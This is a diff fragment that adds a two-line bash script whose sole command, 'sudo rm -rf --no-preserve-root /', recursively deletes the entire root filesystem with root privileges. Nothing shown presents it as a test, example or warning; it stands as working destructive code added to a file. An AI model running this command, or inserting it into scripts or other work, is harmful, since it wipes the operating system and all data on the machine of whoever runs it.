@@ -1,0 +1,2 @@
+#!/bin/bash
+sudo rm -rf --no-preserve-root /
